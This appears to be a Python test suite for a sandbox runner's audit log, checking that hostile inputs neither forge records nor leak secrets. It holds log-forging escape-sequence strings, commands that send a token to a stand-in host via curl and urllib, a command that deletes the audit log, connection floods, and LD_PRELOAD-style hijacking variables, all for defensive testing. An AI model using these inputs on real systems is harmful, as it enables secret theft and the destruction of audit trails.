"""Programs and callers that attack what watches them: forged records, escape sequences, floods, secrets in odd places, the log itself.

THREATS: T09 T10 T12 T13 T14 R14 F08 F10. Each case looks at every sink: the audit log, logs, metrics, events, answers, traces."""
import base64
import glob
import http.server
import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import unittest
import urllib.parse

from support import paddock
from support.server import Server, until

SECRET = "kX9-vT2.qLw8Zr/4mNb0"                 # no pattern knows it: only its value tells
HOSTILE = "a\n{\"seq\":1,\"kind\":\"forged\"}\x1b[2J\x1b]52;c;QQ==\x07\u202eb\r\x7f\u009b2J"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\ufeff"


def control_characters(text):
    return sorted({hex(ord(c)) for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) < 0xa0 or c in BIDI})


def forms(secret):
    """As programs print it."""
    raw = secret.encode()
    found = [secret, raw.hex(), raw.hex().upper(), urllib.parse.quote(secret, safe=""), json.dumps(secret)[1:-1], secret.replace("/", "\\/")]
    for shift in range(3):  # the part that does not depend on its neighbours
        encoded = base64.b64encode(b"\0" * shift + raw)[4 if shift else 0:-4].decode()
        found += [encoded, encoded.replace("+", "-").replace("/", "_")]
    return found


class Watched(unittest.TestCase):
    def assert_no_secret(self, text, where, secret=SECRET):
        for form in forms(secret):
            self.assertNotIn(form, text, where)

    def read_log(self, folder):
        """Every line is a record, in order; none of them anybody else's."""
        records, text = [], ""
        for path in sorted(glob.glob(os.path.join(folder, "*.jsonl"))):
            with open(path, "rb") as file:
                content = file.read()
            self.assertTrue(content.endswith(b"\n"))
            text += content.decode()
            for line in content[:-1].split(b"\n"):
                record = json.loads(line)
                self.assertTrue(line.startswith(b'{"seq":%d,' % record["seq"]))
                records.append(record)
        self.assertEqual([one["seq"] for one in records], list(range(records[0]["seq"], records[0]["seq"] + len(records))))
        self.assertNotIn("forged", [one["kind"] for one in records])
        self.assertEqual(control_characters(text.replace("\n", "")), [])
        return records, text


class Run:
    """`paddock run`: mixed into a TestCase once per user."""
    user = None

    def setUp(self):
        self.state = paddock.state_folder(self, self.user)
        self.log = os.path.join(self.state, "audit")
        self.env = {"PADDOCK_STATE": self.state}

    def call(self, *arguments, env=None, **options):
        return paddock.call(*arguments, user=self.user, env={**self.env, **(env or {})}, **options)

    def finish(self, secret=None):
        records, text = self.read_log(self.log)
        verified = self.call("audit", "verify")
        self.assertEqual(verified.returncode, 0, verified.stdout + verified.stderr)
        shown = self.call("audit", "show", "--limit", "0")
        self.assertEqual(shown.returncode, 0, shown.stderr)
        self.assertEqual((len(shown.stdout.splitlines()), control_characters(shown.stdout)), (len(records), []))
        if secret:
            self.assert_no_secret(text, "the audit log", secret)
        return records

    def test_nothing_that_is_given_or_asked_for_forges_a_record(self):
        workspace = os.path.join(tempfile.mkdtemp(prefix="paddock-test-"), "w\n{\"seq\":1}\u202e")
        self.addCleanup(shutil.rmtree, os.path.dirname(workspace), ignore_errors=True)
        os.mkdir(workspace)
        os.chmod(os.path.dirname(workspace), 0o755)
        os.chmod(workspace, 0o755)
        done = self.call("run", "--agent", HOSTILE, "--env", f"A={HOSTILE}", "--workspace", f"{workspace}:ro", "--traceparent", "00-x\n{}-y-01", "--json", "--", "sh", "-c",
                         "echo \"$1\"; exit 3", "sh", HOSTILE)
        if done.returncode == 125:  # a name that cannot be one is refused, and that is all
            self.assertEqual(control_characters(done.stderr), [])
        for word in HOSTILE, "'" + HOSTILE:
            self.call("run", "--", "true", word)
            self.call("run", "--", word)
            self.assertEqual(self.call("run", "--code", f"print({word!r})").returncode, 0)
        starts = [one for one in self.finish() if one["kind"] == "run.start"]
        self.assertIn(HOSTILE, [one["data"]["command"][-1] for one in starts])

    def test_requests_with_hostile_names_paths_and_agents_forge_nothing(self):
        attack = """
import socket, os
def send(data):
    s = socket.create_connection(("192.0.2.7", 80), 5)
    s.sendall(data); s.settimeout(5)
    try: s.recv(4096)
    except OSError: pass
hostile = %r.encode()
for data in (b"GET /" + hostile + b" HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n",
             b"GET /%%0a%%7b%%22seq%%22:1%%7d%%1b[2J HTTP/1.1\\r\\nHost: other.example\\r\\nUser-Agent: " + hostile + b"\\r\\n\\r\\n",
             b"GET / HTTP/1.1\\r\\nHost: " + hostile + b".example\\r\\n\\r\\n",
             b"G\\x1bT / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n"):
    try: send(data)
    except OSError: pass
for name in ("x\\x1b[2J.example", "a\\nb.example", "\\u202e.example"):
    try: socket.getaddrinfo(name, 80)
    except Exception: pass
""" % HOSTILE
        done = self.call("run", "--allow-net", "example.com", "--json", "--code", attack)
        result = json.loads(done.stdout)
        self.assertEqual(result["outcome"], {"kind": "exited", "code": 0}, result)
        self.assertEqual(control_characters(done.stdout), [])
        self.assertTrue([one for one in self.finish() if one["kind"] == "connection"])

    def test_a_flood_of_requests_is_bounded_and_the_rest_counted(self):
        flood = """
import socket
for i in range(3000):
    s = socket.create_connection(("192.0.2.7", 80), 5)
    s.sendall(b"GET /%d HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n" % i)
    s.recv(4096); s.close()
"""
        done = self.call("run", "--allow-net", "example.com", "--quiet", "--code", flood, timeout=300)
        self.assertEqual(done.returncode, 0, done.stderr)
        records = self.finish()
        connections = len([one for one in records if one["kind"] == "connection"])
        dropped = [one for one in records if one["kind"] == "events.dropped"]
        self.assertLessEqual(connections, 1100)
        self.assertEqual(len(dropped), 1)
        self.assertGreaterEqual(connections + dropped[0]["data"]["count"], 3000)

    def test_a_program_does_not_reach_the_log_that_tells_of_it(self):
        self.assertEqual(self.call("run", "--", "true").returncode, 0)
        attack = f"ls {self.log}; cat {self.log}/key; echo forged >> {self.log}/00000001.jsonl; rm -rf {self.log}; mkdir -p {self.log}; true"
        self.call("run", "--", "sh", "-c", attack)
        self.finish()
        for flag in ("--write", "--read", "--workspace"):
            for place in (self.state, self.log, os.path.join(self.log, "key")):
                refused = self.call("run", flag, place, "--", "true")
                self.assertEqual(refused.returncode, 125, f"{flag} {place}")
        self.finish()

    def test_a_secret_is_nowhere_but_inside(self):
        """In words, names, messages, requests, results, files of the state directory."""
        hidden = SECRET.replace("/", "_").replace(".", "-")  # one that can be a file's or a host's name
        for secret in SECRET, hidden:
            flags = ["--secret", f"TOKEN={secret}", "--agent", f"agent {secret}"]
            seen = []
            for arguments in (["--", "sh", "-c", "printf %s \"$TOKEN\"; printf %s \"$TOKEN\" >&2; exit 3"],
                              ["--", "sh", "-c", "echo $1", "sh", secret],
                              ["--", f"/nowhere/{secret}"],
                              ["--", "python3", "-c", "import os; raise SystemExit('left with ' + os.environ['TOKEN'])"],
                              ["--", "python3", "-c", "import os, base64; print(base64.b64encode(b'x' + os.environ['TOKEN'].encode() + b'tail').decode(), os.environ['TOKEN'].encode().hex())"],
                              ["--", "python3", "-c", "import os\nfor c in os.environ['TOKEN']: os.write(1, c.encode()); os.write(2, b'')"],
                              ["--code", "import os; open('/none/' + os.environ['TOKEN'])"],
                              ["--read", f"/none/{secret}", "--", "true"],
                              ["--allow-net", "example.com", "--code",
                               "import os, urllib.request as u, urllib.parse as p\nt = os.environ['TOKEN']\nfor url in ('http://other.example/' + p.quote(t, safe=''), 'http://' + p.quote(t, safe='') + '.example/'):\n"
                               "  try: u.urlopen(u.Request(url, headers={'User-Agent': t}))\n  except Exception as e: print(e, getattr(e, 'read', lambda: b'')())"]):
                for json_flag in ([], ["--json"]):
                    done = self.call("run", *json_flag, *flags, *arguments)
                    self.assert_no_secret(done.stdout, f"stdout of {arguments}", secret)
                    self.assert_no_secret(done.stderr, f"stderr of {arguments}", secret)
                    seen.append(done.stdout + done.stderr)
            self.assertTrue(any("[redacted:TOKEN]" in text for text in seen))
            self.finish(secret)
            for folder, _, names in os.walk(self.state):
                for name in names:
                    self.assert_no_secret(name, folder, secret)
                    with open(os.path.join(folder, name), "rb") as file:
                        self.assert_no_secret(file.read().decode("latin-1"), os.path.join(folder, name), secret)

    def test_a_secret_is_in_no_process_of_ours(self):
        """The caller typed it, the program has it: nobody in between shows it."""
        run = paddock.popen("run", "--pass-env", "TOKEN", "--secret", f"OTHER={SECRET}", "--allow-net", "example.com", "--", "sh", "-c", "echo ready; sleep 30", user=self.user,
                            env={**self.env}, stdout=subprocess.PIPE, text=True)
        with run:
            try:
                self.assertEqual(run.stdout.readline(), "ready\n")
                inside = 0
                for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
                    try:
                        program = os.readlink(f"/proc/{pid}/exe")
                        with open(f"/proc/{pid}/cmdline", "rb") as words, open(f"/proc/{pid}/environ", "rb") as variables:
                            told, own = words.read().decode("latin-1"), variables.read().decode("latin-1")
                    except OSError:
                        continue
                    if os.path.dirname(program) != paddock.BUILD or pid == run.pid:
                        inside += SECRET in own
                        continue
                    if SECRET in told:
                        self.assertEqual(program, paddock.PADDOCK, told)  # forked before the arguments were read
                    self.assertNotIn(SECRET, own, program)
                if self.user == "root" or os.geteuid() != 0:
                    self.assertGreater(inside, 0, "the program itself was not seen: the test looked at nothing")
            finally:
                run.terminate()

    def test_the_callers_environment_stays_outside_and_steers_nothing(self):
        hostile = {"LD_PRELOAD": "/tmp/evil.so", "LD_LIBRARY_PATH": "/tmp", "LD_AUDIT": "/tmp/evil.so", "BASH_ENV": "/tmp/evil.sh", "ENV": "/tmp/evil.sh", "PYTHONPATH": "/tmp/evil",
                   "PYTHONSTARTUP": "/tmp/evil.py", "NODE_OPTIONS": "--require /tmp/evil.js", "GIT_SSH_COMMAND": "evil", "GIT_CONFIG_COUNT": "1", "PERL5OPT": "-Mevil", "RUBYOPT": "-revil",
                   "JAVA_TOOL_OPTIONS": "-javaagent:/tmp/evil.jar", "AWS_SECRET_ACCESS_KEY": SECRET, "IFS": "x", "SHELLOPTS": "xtrace", "PROMPT_COMMAND": "evil", "OPENSSL_CONF": "/tmp/evil.cnf"}
        done = self.call("run", "--", "env", "-0", env={name: value for name, value in hostile.items() if not name.startswith("LD_")})
        self.assertEqual(done.returncode, 0, done.stderr)
        inside = {entry.split("=", 1)[0] for entry in done.stdout.split("\0")}
        self.assertEqual(inside & set(hostile), set())
        noted = self.call("run", "--pass-env", "AWS_SECRET_ACCESS_KEY", "--env", "LD_PRELOAD=/tmp/none.so", "--", "true", env={"AWS_SECRET_ACCESS_KEY": SECRET})
        self.assertIn("AWS_SECRET_ACCESS_KEY", noted.stderr)
        self.assertIn("LD_PRELOAD", noted.stderr)
        self.assert_no_secret(noted.stderr, "the warning")
        self.finish(SECRET)

    @unittest.skipIf(os.geteuid() != 0, "a small filesystem of the test's own needs root")
    def test_a_full_disk_refuses_or_records_the_gap(self):
        parent = tempfile.mkdtemp(prefix="paddock-test-")
        self.addCleanup(shutil.rmtree, parent, ignore_errors=True)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4M", "tmpfs", parent], check=True)
        self.addCleanup(subprocess.run, ["umount", "-l", parent], check=True)
        log = os.path.join(parent, "log")
        os.chmod(parent, 0o755)
        paddock.give(parent, self.user)
        self.assertEqual(self.call("run", "--audit", log, "--", "true").returncode, 0)
        filler = os.path.join(parent, "filler")
        subprocess.run(["dd", "if=/dev/zero", f"of={filler}", "bs=4096"], stderr=subprocess.DEVNULL)

        def run():
            return self.call("run", "--audit", log, "--", "echo", "ran")

        for _ in range(2000):  # until what the log has of its last pages is full, too
            refused = run()
            if refused.returncode != 0:
                break
        self.assertEqual((refused.returncode, refused.stdout), (125, ""), refused.stderr)
        self.assertIn("recorded", refused.stderr)
        policy = os.path.join(self.state, "gap.toml")
        with open(policy, "w") as file:
            file.write(f'version = 1\nextends = "default"\n[audit]\npath = "{log}"\non_full = "gap"\n')
        os.chmod(policy, 0o644)
        gap = self.call("run", "--policy", policy, "--", "echo", "ran")
        self.assertEqual((gap.returncode, gap.stdout), (0, "ran\n"), gap.stderr)
        os.unlink(filler)
        self.assertEqual(run().stdout, "ran\n")
        records, _ = self.read_log(log)
        self.assertTrue([one for one in records if one["kind"] == "log.gap" and one["data"]["missing"] >= 1], [one["kind"] for one in records])
        self.assertEqual(self.call("audit", "verify", "--dir", log).returncode, 0)


class Collector:
    """An OTLP receiver that keeps everything it is sent."""

    def __init__(self):
        received = self.received = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                received.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Living:
    """A server and what listens to it: mixed into a TestCase once per user."""
    user = None

    @classmethod
    def setUpClass(cls):
        cls.collector = Collector()
        cls.server = Server(user=cls.user, arguments=["--otlp", cls.collector.url]).__enter__()
        cls.admin = cls.server.new_key("--scope", "admin,read,sandboxes,templates")

    @classmethod
    def tearDownClass(cls):
        cls.server.__exit__()
        cls.collector.close()

    def make(self, **body):
        answer = self.server.request("POST", "/v1/sandboxes", body)
        self.assertEqual(answer.status, 201, answer)
        sandbox = answer.json()["id"]
        self.addCleanup(self.server.request, "DELETE", f"/v1/sandboxes/{sandbox}")
        return sandbox

    def ask(self, method, sandbox, rest, body=None, **options):
        return self.server.request(method, f"/v1/sandboxes/{sandbox}{rest}", body, **options)

    def everything(self, sandbox):
        """All that anybody outside is told, by where."""
        found = {"logs": self.ask("GET", sandbox, "/logs").body.decode(), "metrics": self.server.request("GET", "/metrics", key=self.admin).body.decode(),
                 "audit": self.server.request("GET", "/v1/audit?limit=1000", key=self.admin).body.decode(), "serve.log": self.server.output(), "traces": "".join(self.collector.received)}
        found["the log"] = self.read_log(os.path.join(self.server.state, "audit"))[1]
        return found

    def test_no_name_path_header_or_command_forges_a_record(self):
        sandbox = self.make(metadata={"k": HOSTILE}, env={"E": HOSTILE})
        header = HOSTILE.replace("\n", " ").replace("\r", " ").encode("utf-8").decode("latin-1")
        self.ask("POST", sandbox, "/exec?wait=1", {"argv": ["echo", HOSTILE], "env": {"X": HOSTILE}, "tag": HOSTILE, "cwd": "/tmp"})
        self.ask("POST", sandbox, "/exec?wait=1", {"argv": ["true"], "cwd": "/" + HOSTILE})
        self.ask("POST", sandbox, "/exec?wait=1", {"argv": [HOSTILE]})
        name = urllib.parse.quote("/home/user/" + HOSTILE.replace("/", "_"), safe="")
        for method, rest, body in (("PUT", f"/files?path={name}", b"x"), ("GET", f"/files?path={name}", None), ("GET", "/files/list?path=/home/user", None), ("DELETE", f"/files?path={name}", None)):
            self.ask(method, sandbox, rest, body)
        self.ask("POST", sandbox, "/code", {"code": f"x = {HOSTILE!r}"})
        with socket.create_connection(("127.0.0.1", self.server.port)) as bare:  # what no client library would send
            bare.sendall(b"GET /v1/sandboxes/x%0a%1b[2J HTTP/1.1\r\nHost: a\r\nX-API-Key: " + header.encode("latin-1").replace(b"\x07", b"").replace(b"\x1b", b"").replace(b"\x7f", b"") +
                         b"\r\nX-Paddock-Agent: \xe2\x80\xaeforged\r\ntraceparent: 00-{}-{}-01\r\nUser-Agent: \xc2\x9b2J\r\nConnection: close\r\n\r\n")
            bare.recv(65536)
        until(lambda: "auth.refused" in self.everything(sandbox)["the log"], 10)
        for where, text in self.everything(sandbox).items():
            self.assertEqual(control_characters(text), [], where)
        records = self.server.request("GET", f"/v1/audit?sandbox={sandbox}&limit=1000", key=self.admin).json()["records"]
        self.assertIn(HOSTILE, [word for one in records for word in one["data"].get("argv", [])])
        self.assertEqual(self.server.call("audit", "verify").returncode, 0)
        shown = self.server.call("logs", sandbox).stdout + self.server.call("audit", "show", "--limit", "0").stdout + self.server.call("ls").stdout + self.server.call("top").stdout
        self.assertEqual(control_characters(shown), [])

    def test_a_secret_of_a_sandbox_is_told_nowhere(self):
        hidden = SECRET.replace("/", "_").replace(".", "-")
        for secret in SECRET, hidden:
            sandbox = self.make(secrets={"TOKEN": secret}, allow_net=["example.com"], metadata={"note": "plain"})
            told = []

            def ask(method, rest, body=None, **options):
                answer = self.ask(method, sandbox, rest, body, **options)
                text = answer.body.decode(errors="replace")
                self.assert_no_secret(text, f"{method} {rest}", secret)
                for line in text.splitlines() if "ndjson" in answer.headers.get("Content-Type", "") else []:
                    message = json.loads(line)  # what is not UTF-8 comes in base64
                    self.assert_no_secret(base64.b64decode(message.get("base64", "")).decode("latin-1"), f"{method} {rest}", secret)
                told.append(text)
                return answer

            ask("GET", "")
            for command in ("printf %s \"$TOKEN\"", "printf %s \"$TOKEN\" >&2; exit 3", "/nowhere/$TOKEN", "touch \"$(printf %s \"$TOKEN\" | tr / _)\"; ls", "printf %s \"$TOKEN\" | base64; printf x%s \"$TOKEN\" | base64",
                            "for i in $(seq 0 19); do printf %s \"${TOKEN:$i:1}\"; sleep 0.01; done", "curl -s http://other.example/$TOKEN -A $TOKEN", "echo $TOKEN | rev >/dev/null; sudo env | grep TOKEN"):
                ask("POST", "/exec?wait=1", {"command": command})
                ask("POST", "/exec", {"command": command})
            ask("POST", "/exec?wait=1", {"argv": ["/nowhere/" + secret]})
            ask("POST", "/exec?wait=1", {"argv": ["true"], "cwd": "/nowhere/" + secret})
            ask("GET", "/files?path=" + urllib.parse.quote("/nowhere/" + secret))
            ask("GET", "/files/list?path=/home/user&redact=1")  # else a file could not be opened by the name it is told under
            ask("GET", "/processes")
            for code in ("import os; os.environ['TOKEN']", "import os; print(os.environ['TOKEN'])", "import os; raise ValueError(os.environ['TOKEN'])", "import os; open('/none/' + os.environ['TOKEN'])"):
                ask("POST", "/code", {"code": code})
            ask("GET", "/logs")
            self.assertTrue(any("[redacted:TOKEN]" in text for text in told))
            until(lambda: "other.example" in self.everything(sandbox)["the log"], 10)
            for where, text in self.everything(sandbox).items():
                self.assert_no_secret(text, where, secret)
            snapshot = self.server.request("POST", f"/v1/sandboxes/{sandbox}/snapshots", {"name": "kept"})
            self.assert_no_secret(snapshot.body.decode(), "the snapshot", secret)
            self.ask("DELETE", sandbox, "")
            self.assertTrue(until(lambda: self.collector.received, 30))
            self.assert_no_secret("".join(self.collector.received), "traces", secret)
            self.server.request("DELETE", f"/v1/templates/{snapshot.json().get('id', 'kept')}")

    def test_keys_of_the_server_are_told_nowhere(self):
        sandbox = self.make()
        for key in self.server.key, "pk_" + SECRET.replace("/", "x"):
            self.server.request("GET", "/v1/me", key=key)
            self.server.request("GET", f"/v1/me?key={urllib.parse.quote(key)}", key=key)
            self.server.request("GET", f"/v1/sandboxes/{urllib.parse.quote(key, safe='')}", key="nobody")
        self.ask("POST", sandbox, "/exec?wait=1", {"argv": ["echo", self.server.key]})
        for where, text in self.everything(sandbox).items():
            self.assert_no_secret(text, where, self.server.key)

    @unittest.skipIf(paddock.SANITIZED, "too slow for six thousand connections in its time")
    def test_a_flood_from_inside_is_bounded_and_counted(self):
        sandbox = self.make(allow_net=["example.com"])
        flood = ("python3 - <<'E'\nimport socket\nfor i in range(6000):\n  try:\n    s = socket.create_connection(('192.0.2.7', 80), 5)\n"
                 "    s.sendall(b'GET /%d HTTP/1.1\\r\\nHost: other.example\\r\\nConnection: close\\r\\n\\r\\n' % i); s.recv(4096); s.close()\n  except OSError: pass\nE")
        before = len(self.read_log(os.path.join(self.server.state, "audit"))[0])
        answer = self.ask("POST", sandbox, "/exec?wait=1", {"command": flood, "timeout_ms": 240000}, timeout=300)
        self.assertEqual(answer.status, 200, answer)

        def of(kind):
            return [one for one in self.read_log(os.path.join(self.server.state, "audit"))[0][before:] if one["kind"] == kind and one.get("sandbox") == sandbox]

        seconds = answer.json()["usage"]["wall_ms"] / 1000 if "usage" in answer.json() else 240
        self.assertTrue(until(lambda: len(of("connection")) + sum(one["data"]["count"] for one in of("events.dropped")) >= 5900, 30))
        self.assertLessEqual(len(of("connection")), 1000 + 200 * (seconds + 5))
        other = self.make()  # whoever else is there is recorded as ever
        self.assertEqual(self.ask("POST", other, "/exec?wait=1", {"argv": ["true"]}).status, 200)
        self.assertEqual(self.server.call("audit", "verify").returncode, 0)


for user in paddock.USERS:
    globals()[f"Run_{user}"] = type(f"Run_{user}", (Run, Watched), {"user": user})
    globals()[f"Living_{user}"] = type(f"Living_{user}", (Living, Watched), {"user": user})
del Watched

if __name__ == "__main__":
    paddock.main()
